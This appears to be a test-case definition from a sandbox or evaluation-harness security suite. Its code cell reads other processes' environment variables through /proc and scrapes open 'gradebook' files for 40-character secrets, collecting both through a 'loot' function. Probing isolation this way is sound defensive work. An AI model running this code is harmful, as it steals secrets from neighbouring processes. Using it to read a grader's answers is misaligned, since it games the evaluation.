"""The environment and the open files of other processes are read from /proc."""

CATEGORY = "files"
LONG = True
CELLS = {
    "constant": """
import os, re

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            loot(file.read().decode("utf-8", "replace"))
        for number in os.listdir(f"/proc/{pid}/fd"):
            if "gradebook" in os.readlink(f"/proc/{pid}/fd/{number}"):
                with open(f"/proc/{pid}/fd/{number}", "rb") as file:
                    loot(re.findall(rb"word = .{40}", file.read()))
    except OSError:
        pass
"""
}
